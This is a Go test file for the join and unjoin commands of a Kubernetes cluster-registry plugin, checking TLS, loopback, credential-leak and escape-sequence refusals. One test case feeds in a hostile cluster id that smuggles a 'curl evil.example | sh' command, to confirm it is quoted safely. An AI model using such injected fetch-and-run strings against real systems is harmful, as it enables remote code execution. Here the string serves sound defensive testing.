package join

import (
	"context"
	"errors"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/spf13/cobra"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/api/meta"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/apimachinery/pkg/runtime/schema"
	clienttesting "k8s.io/client-go/testing"

	"github.com/clusterregistry/operator/apis/clusterregistry/v1beta1"
	"github.com/clusterregistry/operator/cli/command/commandtest"
	"github.com/clusterregistry/operator/cli/member"
)

const kubeconfig = `
apiVersion: v1
kind: Config
clusters:
- {name: east, cluster: {server: "https://east.example:6443", tls-server-name: api.east.example, proxy-url: "http://proxy.example:3128"}}
- {name: insecure, cluster: {server: "https://east.example:6443", insecure-skip-tls-verify: true}}
- {name: plain, cluster: {server: "http://east.example:8080"}}
- {name: kind, cluster: {server: "https://127.0.0.1:40123"}}
- {name: localhost, cluster: {server: "https://LOCALHOST.:40123"}}
- {name: mapped, cluster: {server: "https://[::ffff:127.0.0.1]:40123"}}
- {name: proxied, cluster: {server: "https://east.example", proxy-url: "http://ann:geheim@proxy.example"}}
- {name: noca, cluster: {server: "https://east.example", certificate-authority-data: bm90IGEgY2VydGlmaWNhdGU=}}
contexts:
- {name: east, context: {cluster: east, user: ann}}
- {name: exec, context: {cluster: east, user: exec}}
- {name: secretive, context: {cluster: east, user: secretive}}
- {name: insecure, context: {cluster: insecure, user: ann}}
- {name: "it's", context: {cluster: insecure, user: ann}}
- {name: plain, context: {cluster: plain, user: ann}}
- {name: kind, context: {cluster: kind, user: ann}}
- {name: localhost, context: {cluster: localhost, user: ann}}
- {name: mapped, context: {cluster: mapped, user: ann}}
- {name: proxied, context: {cluster: proxied, user: ann}}
- {name: noca, context: {cluster: noca, user: ann}}
- {name: dangling, context: {cluster: nowhere, user: ann}}
users:
- {name: ann, user: {token: geheim}}
- name: exec
  user:
    exec:
      apiVersion: client.authentication.k8s.io/v1
      command: /usr/lib/google-cloud-sdk/bin/gke-gcloud-auth-plugin
      interactiveMode: Never
      installHint: ask ann
      env: [{name: REGION, value: eu}, {name: CLIENT_SECRET, value: geheim}]
- name: secretive
  user: {exec: {apiVersion: client.authentication.k8s.io/v1, command: login, interactiveMode: Never, args: [--password, geheim]}}
`

const idOfEast = "6f1c1f4e-0001-4000-8000-000000000001"

// newJoin returns the command with a cluster that answers with an id.
func newJoin(env *commandtest.Env, id string) *cobra.Command { return newJoinAt(env, id, nil) }

// newJoinAt is newJoin with servers that answer with other ids; others are not reached.
func newJoinAt(env *commandtest.Env, id string, there map[string]string) *cobra.Command {
	j := &joiner{env: env.Env, ask: func(_ context.Context, _ *member.Member, server string) (member.Facts, error) {
		if at, is := there[server]; is {
			return member.Facts{ID: at, Version: "v1.37.1"}, nil
		}
		if server != "" {
			return member.Facts{}, errors.New("no route to host")
		}
		switch id {
		case "":
			return member.Facts{}, errors.New("it is silent")
		case "none":
			id = ""
		}
		return member.Facts{ID: id, Version: "v1.37.1"}, nil
	}}
	return j.command()
}

func write(t *testing.T, content string) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "kubeconfig")
	if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

func entry(name, id string, urls ...string) *v1beta1.Cluster {
	out := &v1beta1.Cluster{ObjectMeta: metav1.ObjectMeta{Name: name}, Spec: v1beta1.ClusterSpec{ID: id}}
	for _, url := range urls {
		out.Spec.Endpoints = append(out.Spec.Endpoints, v1beta1.Endpoint{Name: "main", URL: url})
	}
	return out
}

func TestJoin(t *testing.T) {
	env, path := commandtest.New(t), write(t, kubeconfig)
	args := []string{"east", "--cluster-kubeconfig", path, "--cluster-context", "east", "--label", "region=eu,tier=gold", "--display-name", "East", "--cluster-set", "blue"}
	if text, code := env.Run(t, newJoin(env, idOfEast), args...); code != 0 {
		t.Fatal(text)
	}
	if got := env.Stdout.String(); got != "cluster.clusterregistry.k8s.io/east created\n" {
		t.Errorf("it says %q", got)
	}
	clusters := env.Clusters.ClusterregistryV1beta1().Clusters()
	made, err := clusters.Get(t.Context(), "east", metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	endpoint := v1beta1.Endpoint{Name: "main", URL: "https://east.example:6443", TLSServerName: "api.east.example", ProxyURL: "http://proxy.example:3128"}
	if made.Spec.ID != idOfEast || made.Spec.DisplayName != "East" || made.Spec.ClusterSet != "blue" || made.Labels["tier"] != "gold" || len(made.Spec.Endpoints) != 1 || made.Spec.Endpoints[0].String() != endpoint.String() || made.Spec.Access != nil {
		t.Errorf("the registry has %+v", made)
	}
	if made.Status == nil || made.Status.Version.Kubernetes != "v1.37.1" || !meta.IsStatusConditionTrue(made.Status.Conditions, "IdentityVerified") {
		t.Errorf("its status is %+v", made.Status)
	}

	// What others have added stays when it joins again, whatever is left out.
	made.Labels["theirs"] = "too"
	made.Spec.Endpoints = append(made.Spec.Endpoints, v1beta1.Endpoint{Name: "inside", URL: "https://10.0.0.1"})
	made.Spec.Endpoints[0].ClientCIDRs = []string{"192.0.2.0/24"}
	if _, err := clusters.Update(t.Context(), made, metav1.UpdateOptions{}); err != nil {
		t.Fatal(err)
	}
	env.Stdout.Reset()
	if text, code := env.Run(t, newJoin(env, idOfEast), args[:5]...); code != 0 {
		t.Fatal(text)
	}
	if got := env.Stdout.String(); got != "cluster.clusterregistry.k8s.io/east unchanged\n" {
		t.Errorf("joined again, it says %q", got)
	}
	// The cluster has moved.
	moved := write(t, strings.ReplaceAll(kubeconfig, "east.example:6443", "new.example"))
	if text, code := env.Run(t, newJoin(env, idOfEast), "east", "--cluster-kubeconfig", moved, "--cluster-context", "east"); code != 0 {
		t.Fatal(text)
	}
	after, err := clusters.Get(t.Context(), "east", metav1.GetOptions{})
	if err != nil || after.Spec.Endpoints[0].URL != "https://new.example" || len(after.Spec.Endpoints) != 2 || after.Labels["theirs"] != "too" || after.Spec.DisplayName != "East" || after.Spec.ClusterSet != "blue" {
		t.Errorf("it has moved to %+v, %v", after, err)
	}
	if got := env.Stderr.String(); !strings.Contains(got, "endpoint main: https://east.example:6443 -> https://new.example\n") {
		t.Errorf("the change is not shown: %q", got)
	}
}

// TestJoinWithoutSets reports that the registry has dropped the set.
func TestJoinWithoutSets(t *testing.T) {
	env := commandtest.New(t)
	env.Clusters.PrependReactor("create", "clusters", func(action clienttesting.Action) (bool, runtime.Object, error) {
		made := action.(clienttesting.CreateAction).GetObject().(*v1beta1.Cluster).DeepCopy()
		made.Spec.ClusterSet = ""
		return true, made, nil
	})
	text, code := env.Run(t, newJoin(env, idOfEast), "east", "--cluster-kubeconfig", write(t, kubeconfig), "--cluster-context", "east", "--cluster-set", "blue")
	if code != 1 || !strings.Contains(text, `the cluster "east" is in the registry, and not in ClusterSet "blue": the registry has no ClusterSets`) {
		t.Errorf("%d: %s", code, text)
	}
}

// TestJoinTakesNoCredentials expects that neither the token of a user nor the secrets
// of a program get into the registry or onto the screen.
func TestJoinTakesNoCredentials(t *testing.T) {
	for context, args := range map[string][]string{"east": nil, "exec": {"--with-access", "--yes"}} {
		env := commandtest.New(t)
		args := append([]string{"east", "--cluster-kubeconfig", write(t, kubeconfig), "--cluster-context", context, "-o", "yaml"}, args...)
		if text, code := env.Run(t, newJoin(env, idOfEast), args...); code != 0 {
			t.Fatal(text)
		}
		if out := env.Stdout.String() + env.Stderr.String(); strings.Contains(out, "geheim") || strings.Contains(out, "CLIENT_SECRET") {
			t.Errorf("%s: a credential shows: %s", context, out)
		}
		if has := strings.Contains(env.Stdout.String(), "command: gke-gcloud-auth-plugin"); has != (context == "exec") {
			t.Errorf("%s: the program is entered: %t", context, has)
		}
		if context == "exec" && !strings.Contains(env.Stderr.String(), "gke-gcloud-auth-plugin \n  with REGION=eu\n  with interactiveMode Never\n  with the hint: ask ann\n") {
			t.Errorf("the program is not shown: %s", env.Stderr)
		}
		if context == "exec" && !strings.Contains(env.Stdout.String(), "interactiveMode: Never") {
			t.Errorf("whether the program may ask is not entered: %s", env.Stdout)
		}
	}
}

func TestJoinDryRun(t *testing.T) {
	env := commandtest.New(t)
	if text, code := env.Run(t, newJoin(env, idOfEast), "east", "--cluster-kubeconfig", write(t, kubeconfig), "--cluster-context", "east", "--dry-run=client", "-o", "yaml"); code != 0 {
		t.Fatal(text)
	}
	const want = `apiVersion: clusterregistry.k8s.io/v1beta1
kind: Cluster
metadata:
  name: east
spec:
  endpoints:
  - name: main
    proxyURL: http://proxy.example:3128
    tlsServerName: api.east.example
    url: https://east.example:6443
  id: ` + idOfEast + "\n"
	if got := env.Stdout.String(); got != want {
		t.Errorf("it prints\n%s", got)
	}
	for _, action := range env.Clusters.Actions() {
		if action.GetVerb() != "list" {
			t.Errorf("a dry run has sent %s", action.GetVerb())
		}
	}
}

// TestJoinErrors has every refusal, with its text and exit code, and that nothing was
// written.
func TestJoinErrors(t *testing.T) {
	path := write(t, kubeconfig)
	forbidden := apierrors.NewForbidden(schema.GroupResource{Group: "clusterregistry.k8s.io", Resource: "clusters"}, "", errors.New("no"))
	for _, test := range []struct {
		reason  string
		context string
		args    []string
		id      string
		entries []runtime.Object
		fails   error
		code    int
		text    string
	}{
		{reason: "no context", code: 2, text: `--cluster-context is missing: name the context of the cluster that joins, as "kubectl config get-contexts" lists them`},
		{reason: "an unknown context", context: "west", code: 2, text: `the kubeconfig has no context "west": it has dangling, east, exec, insecure, it's, kind, localhost, mapped, noca, plain, proxied, secretive; name another file with --cluster-kubeconfig`},
		{reason: "a context of nothing", context: "dangling", code: 2, text: `context "dangling" names the cluster "nowhere", which the kubeconfig doesn't have: correct it with "kubectl config set-context"`},
		{reason: "an unknown form", context: "east", args: []string{"-o", "xml"}, code: 2, text: `--output=xml: use json or yaml or jsonpath=TEMPLATE`},
		{reason: "an unknown dry run", context: "east", args: []string{"--dry-run=maybe"}, code: 2, text: `--dry-run=maybe: use none or client or server`},
		{reason: "no verification", context: "insecure", code: 3, text: `context "insecure" has insecure-skip-tls-verify: the registry takes only endpoints whose certificate is verified; set the cluster's CA with "kubectl config set-cluster insecure --insecure-skip-tls-verify=false --certificate-authority=FILE --embed-certs"`},
		{reason: "no verification, under another name", context: "it's", code: 3, text: `context "it's" has insecure-skip-tls-verify: the registry takes only endpoints whose certificate is verified; set the cluster's CA with "kubectl config set-cluster insecure --insecure-skip-tls-verify=false --certificate-authority=FILE --embed-certs"`},
		{reason: "a hostile id", context: "east", id: "x'; curl evil.example | sh; '", entries: []runtime.Object{entry("east", "", "https://other.example")}, code: 3, text: `the registry has a cluster "east" without an id, at https://other.example, and whether it is that of context "east", at https://east.example:6443, is not known: choose another name, or if it is the same, set its id with kubectl patch crc east --type=merge -p '{"spec":{"id":"x'\''; curl evil.example | sh; '\''"}}' first`},
		{reason: "no TLS", context: "plain", code: 3, text: `the server of context "plain" is not an https URL: the registry takes only endpoints with TLS; name one with --server`},
		{reason: "loopback", context: "kind", code: 3, text: `context "kind" leads to https://127.0.0.1:40123, which is a loopback address: say with --server which https URL other computers reach the cluster at`},
		{reason: "localhost", context: "localhost", code: 3, text: `context "localhost" leads to https://LOCALHOST.:40123, which is a loopback address: say with --server which https URL other computers reach the cluster at`},
		{reason: "loopback, mapped", context: "mapped", code: 3, text: `context "mapped" leads to https://[::ffff:127.0.0.1]:40123, which is a loopback address: say with --server which https URL other computers reach the cluster at`},
		{reason: "loopback as the other address", context: "kind", args: []string{"--server=https://[::1]:6443"}, code: 3, text: `--server=https://[::1]:6443: which is a loopback address; name an address that other computers reach the cluster at`},
		{reason: "a proxy with a password", context: "proxied", code: 3, text: `the proxy of context "proxied" is a URL with a user or password: the registry is readable by many and holds no credentials; use a proxy without, or enter the cluster by hand`},
		{reason: "no CA", context: "noca", code: 3, text: `the CA of context "noca" has no certificate in PEM: correct certificate-authority-data in the kubeconfig`},
		{reason: "no program", context: "east", args: []string{"--with-access"}, code: 3, text: `the user of context "east" has no exec program, and other credentials are never copied: leave out --with-access, and describe the access by hand with "kubectl edit crc"`},
		{reason: "a program with a password", context: "secretive", id: idOfEast, args: []string{"--with-access", "--yes"}, code: 3, text: `cluster "east" is not valid: spec.access[0].exec.args[1]: Forbidden: the argument looks like a credential; the registry is readable by many; store a pointer to it (an issuer's URL, a client ID, the name of a Secret or of a plugin, under a key such as secretRef) instead`},
		{reason: "a program that no one confirms", context: "exec", id: idOfEast, args: []string{"--with-access"}, code: 3, text: `Enter it? This needs a confirmation, and the standard input is not a terminal: check what is shown, then use --yes`},
		{reason: "a silent cluster", context: "east", code: 1, text: "it is silent"},
		{reason: "a cluster without identity", context: "east", id: "none", entries: []runtime.Object{entry("old", "")}, code: 3, text: `the namespace kube-system of the cluster of context "east" has no UID, so the cluster can't be told from others: it is not a Kubernetes API server as others are; choose an id with --id`},
		{reason: "another name", context: "east", id: idOfEast, entries: []runtime.Object{entry("old", idOfEast, "https://old.example")}, code: 3, text: `the cluster of context "east" is in the registry already, as "old" (id ` + idOfEast + `), at https://old.example, and can't join as "east" too: join it as "old", or remove that with "kubectl registry unjoin old" first. If it is another cluster, which was restored from the same backup of etcd or cloned, join it as "east" with --id=ID, an id of its own`},
		{reason: "an entry of its own, with an id of its own", context: "east", id: idOfEast, entries: []runtime.Object{entry("east", "copy-1", "https://east.example:6443"), entry("old", idOfEast, "https://old.example")}, code: 3, text: `the cluster of context "east" is in the registry already, as "old" (id ` + idOfEast + `), at https://old.example, and can't join as "east" too: join it as "old", or remove that with "kubectl registry unjoin old" first. If it is another cluster, which was restored from the same backup of etcd or cloned, join it as "east" with --id=copy-1, an id of its own`},
		{reason: "a chosen id that is taken", context: "east", id: idOfEast, args: []string{"--id=copy-1"}, entries: []runtime.Object{entry("old", "copy-1", "https://old.example")}, code: 3, text: `the id "copy-1" is that of "old" in the registry, at https://old.example: choose another one`},
		{reason: "another chosen id", context: "east", id: idOfEast, args: []string{"--id=copy-2"}, entries: []runtime.Object{entry("east", "copy-1", "https://east.example:6443")}, code: 3, text: `the name "east" belongs to another cluster: in the registry it is id copy-1, at https://east.example:6443, and the cluster of context "east" has id copy-2; choose another name, or if "east" is gone, remove it with "kubectl registry unjoin east" first`},
		{reason: "another cluster", context: "east", id: idOfEast, entries: []runtime.Object{entry("east", "other", "https://other.example")}, code: 3, text: `the name "east" belongs to another cluster: in the registry it is id other, at https://other.example, and the cluster of context "east" has id ` + idOfEast + `; choose another name, or if "east" is gone, remove it with "kubectl registry unjoin east" first`},
		{reason: "perhaps another cluster", context: "east", id: idOfEast, entries: []runtime.Object{entry("east", "", "https://other.example")}, code: 3, text: `the registry has a cluster "east" without an id, at https://other.example, and whether it is that of context "east", at https://east.example:6443, is not known: choose another name, or if it is the same, set its id with kubectl patch crc east --type=merge -p '{"spec":{"id":"` + idOfEast + `"}}' first`},
		{reason: "no right to list", context: "east", id: idOfEast, fails: forbidden, code: 1, text: `list the registry's clusters: clusters.clusterregistry.k8s.io is forbidden: no; docs/reference/plugin.md lists the rights that each command needs`},
		{reason: "no registry", context: "east", id: idOfEast, fails: &apierrors.StatusError{ErrStatus: metav1.Status{Reason: metav1.StatusReasonNotFound, Code: 404, Message: "the server could not find the requested resource"}}, code: 1, text: `list the registry's clusters: the registry (context hub) does not serve clusterregistry.k8s.io/v1beta1: name the context of a registry with --context; a registry of which no server runs is not served either, and "kubectl registry status" says so`},
		{reason: "no server", context: "east", id: idOfEast, fails: apierrors.NewServiceUnavailable("error trying to reach service"), code: 1, text: `list the registry's clusters: the registry (context hub) is not available: error trying to reach service; ask it again later, or see "kubectl registry status"`},
		{reason: "no credentials", context: "east", id: idOfEast, fails: apierrors.NewUnauthorized("Unauthorized"), code: 1, text: `list the registry's clusters: the registry (context hub) does not accept the credentials of the kubeconfig: sign in again, or name another context with --context`},
	} {
		env := commandtest.New(t, test.entries...)
		if test.fails != nil {
			env.Clusters.PrependReactor("list", "clusters", func(clienttesting.Action) (bool, runtime.Object, error) { return true, nil, test.fails })
		}
		args := append([]string{"east", "--cluster-kubeconfig", path, "--cluster-context", test.context}, test.args...)
		text, code := env.Run(t, newJoin(env, test.id), args...)
		if text != test.text || code != test.code {
			t.Errorf("%s: exit code %d with\n%s\nwant %d with\n%s", test.reason, code, text, test.code, test.text)
		}
		for _, action := range env.Clusters.Actions() {
			if verb := action.GetVerb(); verb != "list" && verb != "get" {
				t.Errorf("%s: it was refused after a %s", test.reason, verb)
			}
		}
	}
}

// TestJoinOfTheSameKubeconfig expects that --kubeconfig also says where the cluster's
// context is, and not some other file that has a context of this name.
func TestJoinOfTheSameKubeconfig(t *testing.T) {
	t.Setenv("KUBECONFIG", write(t, strings.ReplaceAll(kubeconfig, "east.example", "other.example")))
	env := commandtest.New(t)
	*env.Flags.KubeConfig = write(t, kubeconfig)
	if text, code := env.Run(t, newJoin(env, idOfEast), "east", "--cluster-context=east"); code != 0 {
		t.Fatal(text)
	}
	made, err := env.Clusters.ClusterregistryV1beta1().Clusters().Get(t.Context(), "east", metav1.GetOptions{})
	if err != nil || made.Spec.Endpoints[0].URL != "https://east.example:6443" {
		t.Errorf("%+v, %v", made, err)
	}
	if got := env.Stderr.String(); got != "Entering \"east\" in the registry of context hub\n" {
		t.Errorf("it says %q", got)
	}
}

func TestJoinTakesOverWithoutID(t *testing.T) {
	for reason, old := range map[string]*v1beta1.Cluster{"the same address": entry("east", "", "https://east.example:6443/"), "no address": entry("east", "")} {
		env := commandtest.New(t, old)
		if text, code := env.Run(t, newJoin(env, idOfEast), "east", "--cluster-kubeconfig", write(t, kubeconfig), "--cluster-context", "east"); code != 0 {
			t.Errorf("%s: %s", reason, text)
		}
		made, err := env.Clusters.ClusterregistryV1beta1().Clusters().Get(t.Context(), "east", metav1.GetOptions{})
		if err != nil || made.Spec.ID != idOfEast {
			t.Errorf("%s: %+v, %v", reason, made, err)
		}
	}
}

// TestJoinOfACopy has a cluster join whose UID is that of another one, since both were restored
// from one backup: by an id of its own, with and without an entry that a person has made, and
// again. Its version is recorded, and that its identity can't be verified.
func TestJoinOfACopy(t *testing.T) {
	for reason, entries := range map[string][]runtime.Object{"the first time": nil, "made by hand": {entry("east", "copy-1", "https://by-hand.example")}} {
		env := commandtest.New(t, append(entries, entry("original", idOfEast, "https://original.example"))...)
		for range 2 {
			if text, code := env.Run(t, newJoin(env, idOfEast), "east", "--cluster-kubeconfig", write(t, kubeconfig), "--cluster-context", "east", "--id=copy-1"); code != 0 {
				t.Fatalf("%s: %s", reason, text)
			}
		}
		clusters := env.Clusters.ClusterregistryV1beta1().Clusters()
		made, err := clusters.Get(t.Context(), "east", metav1.GetOptions{})
		if err != nil || made.Spec.ID != "copy-1" || made.Spec.Endpoints[0].URL != "https://east.example:6443" || made.Status.Version.Kubernetes != "v1.37.1" {
			t.Errorf("%s: %+v, %v", reason, made, err)
			continue
		}
		if c := meta.FindStatusCondition(made.Status.Conditions, conditionIdentityVerified); c == nil || c.Status != metav1.ConditionUnknown || c.Reason != reasonIDChosen {
			t.Errorf("%s: %+v", reason, c)
		}
		if original, err := clusters.Get(t.Context(), "original", metav1.GetOptions{}); err != nil || original.Spec.Endpoints[0].URL != "https://original.example" {
			t.Errorf("%s: the original is %+v, %v", reason, original, err)
		}
	}
}

// TestJoinAfterOneThatWasInterrupted ends a first run at each of its writes, and expects that
// the next run completes it.
func TestJoinAfterOneThatWasInterrupted(t *testing.T) {
	args := []string{"east", "--cluster-kubeconfig", write(t, kubeconfig), "--cluster-context", "east"}
	for _, at := range []struct {
		verb, subresource string
		done              bool // by the server, which answers no one
	}{{"create", "", false}, {"create", "", true}, {"update", "status", false}} {
		ctx, end := context.WithCancel(t.Context())
		killed := false
		env := commandtest.New(t)
		env.Clusters.PrependReactor(at.verb, "clusters", func(action clienttesting.Action) (bool, runtime.Object, error) {
			if killed || action.GetSubresource() != at.subresource {
				return false, nil, nil
			}
			killed = true
			end()
			if at.done {
				if err := env.Clusters.Tracker().Create(resource, action.(clienttesting.CreateAction).GetObject(), ""); err != nil {
					t.Error(err)
				}
			}
			return true, nil, context.Canceled
		})
		first := newJoin(env, idOfEast)
		first.SetContext(ctx)
		text, code := env.Run(t, first, args...)
		if ctx.Err() == nil || at.verb == "create" && code == 0 {
			t.Errorf("%+v: it was not interrupted: %d, %s", at, code, text)
		}
		if text, code := env.Run(t, newJoin(env, idOfEast), args...); code != 0 {
			t.Errorf("%+v: again: %s", at, text)
		}
		made, err := env.Clusters.ClusterregistryV1beta1().Clusters().Get(t.Context(), "east", metav1.GetOptions{})
		if err != nil || made.Status == nil || made.Status.Version.Kubernetes != "v1.37.1" || !meta.IsStatusConditionTrue(made.Status.Conditions, conditionIdentityVerified) {
			t.Errorf("%+v: %+v, %v", at, made, err)
		}
	}
}

// TestJoinWithoutStatus expects that a person who may not write the status joins a
// cluster all the same, and is told.
func TestJoinWithoutStatus(t *testing.T) {
	env := commandtest.New(t)
	env.Clusters.PrependReactor("update", "clusters", func(action clienttesting.Action) (bool, runtime.Object, error) {
		return action.GetSubresource() == "status", nil, errors.New("you may not")
	})
	if text, code := env.Run(t, newJoin(env, idOfEast), "east", "--cluster-kubeconfig", write(t, kubeconfig), "--cluster-context", "east"); code != 0 {
		t.Fatal(text)
	}
	if got := env.Stderr.String(); got != "Entering \"east\" in the registry of context hub\nnote: the cluster has joined, and its version, v1.37.1, was not written to its status: you may not\n" {
		t.Errorf("it says %q", got)
	}
}

func TestUnjoin(t *testing.T) {
	for _, test := range []struct {
		reason string
		args   []string
		typed  string
		code   int
		text   string
		stays  bool
	}{
		{reason: "a script", args: []string{"east", "--yes"}},
		{reason: "a person who agrees", args: []string{"east"}, typed: "y\n"},
		{reason: "a person who doesn't", args: []string{"east"}, typed: "\n", code: 3, text: "not confirmed: nothing was changed", stays: true},
		{reason: "no one to ask", args: []string{"east"}, code: 3, text: `Remove "east" from the registry? This needs a confirmation, and the standard input is not a terminal: check what is shown, then use --yes`, stays: true},
		{reason: "a dry run", args: []string{"east", "--dry-run=client"}, stays: true},
		{reason: "an unknown one", args: []string{"west", "--yes"}, code: 1, text: `read the cluster west: clusters.clusterregistry.k8s.io "west" not found`, stays: true},
		{reason: "an unknown one in a script", args: []string{"west", "--yes", "--ignore-not-found"}, stays: true},
		{reason: "no name", code: 2, text: `accepts 1 arg(s), received 0; see "kubectl-registry unjoin --help"`, stays: true},
	} {
		env := commandtest.New(t, entry("east", idOfEast, "https://\x1b[31meast.example"))
		if test.typed != "" {
			env.Typing(test.typed)
		}
		if text, code := env.Run(t, NewUnjoin(env.Env), test.args...); text != test.text || code != test.code {
			t.Errorf("%s: exit code %d with %q", test.reason, code, text)
		}
		if strings.Contains(env.Stderr.String(), "\x1b") {
			t.Errorf("%s: an escape sequence gets to the terminal: %q", test.reason, env.Stderr)
		}
		_, err := env.Clusters.ClusterregistryV1beta1().Clusters().Get(t.Context(), "east", metav1.GetOptions{})
		if stays := err == nil; stays != test.stays {
			t.Errorf("%s: the cluster stays: %t", test.reason, stays)
		}
	}
}

// TestUnjoinWithoutRegistry expects an error from a script that is told to ignore a cluster that is
// not there, if it is the registry that is not.
func TestUnjoinWithoutRegistry(t *testing.T) {
	env := commandtest.New(t)
	env.Clusters.PrependReactor("get", "clusters", func(clienttesting.Action) (bool, runtime.Object, error) {
		return true, nil, &apierrors.StatusError{ErrStatus: metav1.Status{Reason: metav1.StatusReasonNotFound, Code: http.StatusNotFound, Message: "the server could not find the requested resource"}}
	})
	if text, code := env.Run(t, NewUnjoin(env.Env), "east", "--yes", "--ignore-not-found"); code != 1 || !strings.Contains(text, "a registry of which no server runs is not served either") {
		t.Errorf("exit code %d with %q", code, text)
	}
}

// TestJoinAtAnotherAddress expects that the cluster is asked at the address that is entered:
// where another one answers, nothing is entered, and where none does, the entry doesn't say
// that it was verified. What the context says of its own address isn't entered.
func TestJoinAtAnotherAddress(t *testing.T) {
	const server = "https://elsewhere.example.com"
	for _, test := range []struct {
		reason string
		there  map[string]string
		code   int
		says   string
		want   metav1.ConditionStatus
	}{
		{"it answers", map[string]string{server: idOfEast}, 0, "", metav1.ConditionTrue},
		{"it is not reached", nil, 0, "note: that the cluster answers at https://elsewhere.example.com is not verified: no route to host", metav1.ConditionUnknown},
		{"another one answers", map[string]string{server: "x\x1b[31m"}, 3, `another cluster answers at --server=https://elsewhere.example.com than at the address of context "east": its id is x[31m there, and ` + idOfEast + ` here`, ""},
	} {
		env := commandtest.New(t)
		text, code := env.Run(t, newJoinAt(env, idOfEast, test.there), "east", "--cluster-kubeconfig", write(t, kubeconfig), "--cluster-context", "east", "--server", server+"/")
		if code != test.code || !strings.Contains(text+env.Stderr.String(), test.says) {
			t.Errorf("%s: %d, %s\n%s", test.reason, code, text, env.Stderr)
		}
		made, err := env.Clusters.ClusterregistryV1beta1().Clusters().Get(t.Context(), "east", metav1.GetOptions{})
		if test.want == "" {
			if !apierrors.IsNotFound(err) {
				t.Errorf("%s: it is in the registry: %+v, %v", test.reason, made, err)
			}
			continue
		}
		if err != nil {
			t.Fatal(err)
		}
		if e := made.Spec.Endpoints[0]; e.URL != server || e.TLSServerName != "" || e.ProxyURL != "" {
			t.Errorf("%s: %+v", test.reason, e)
		}
		if c := meta.FindStatusCondition(made.Status.Conditions, conditionIdentityVerified); c == nil || c.Status != test.want {
			t.Errorf("%s: %+v", test.reason, c)
		}
	}
}
